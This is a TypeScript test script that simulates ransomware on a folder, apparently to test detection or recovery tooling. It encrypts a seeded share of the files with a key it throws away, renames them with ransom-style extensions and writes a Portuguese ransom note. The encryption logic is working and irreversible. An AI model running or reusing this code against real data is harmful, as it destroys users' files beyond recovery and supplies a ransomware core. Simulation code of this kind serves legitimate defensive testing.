// What ransomware does to a folder, for tests only: `node ransomware.ts <folder> <in-place|same-ending|unknown-names> <part> <seed>`.
// The part of all files that is encrypted is chosen by seed and by what earlier runs with the same seed left.
import { createCipheriv, randomBytes } from 'node:crypto'
import { readdirSync, readFileSync, renameSync, statSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { SeededRandom } from '../fuzz/random.ts'

const MARK = Buffer.from('CIFRADO!')
const [folder = '', mode = '', part = '1', seed = '0'] = process.argv.slice(2)
const random = new SeededRandom(seed)

const files = readdirSync(folder, { recursive: true, withFileTypes: true })
  .filter((entry) => entry.isFile())
  .map((entry) => join(entry.parentPath, entry.name))
  .sort()
const untouched = files.filter((path) => !isDone(path))
const wanted = Math.ceil(files.length * Number(part))
const chosen = Array.from({ length: Math.min(wanted, untouched.length) }, () =>
  untouched.splice(random.below(untouched.length), 1).join(),
)
for (const path of chosen) {
  encrypt(path)
  if (mode === 'same-ending') renameSync(path, `${path}.[id-7].trancado`)
  if (mode === 'unknown-names') renameSync(path, join(dirname(path), `${randomBytes(8).toString('hex')}.zq`))
}
if (mode !== 'in-place')
  for (const place of new Set(chosen.map((path) => dirname(path))))
    writeFileSync(join(place, 'COMO_RECUPERAR.txt'), 'Seus arquivos foram trancados. Pague.\n')

function isDone(path: string): boolean {
  return path.endsWith('COMO_RECUPERAR.txt') || readFileSync(path).subarray(-MARK.length).equals(MARK)
}

/** The mark at the end only tells later runs; nothing else looks there. */
function encrypt(path: string): void {
  const { mode: permissions } = statSync(path)
  const cipher = createCipheriv('aes-256-ctr', randomBytes(32), randomBytes(16))
  writeFileSync(path, Buffer.concat([cipher.update(readFileSync(path)), cipher.final(), MARK]), { mode: permissions })
}
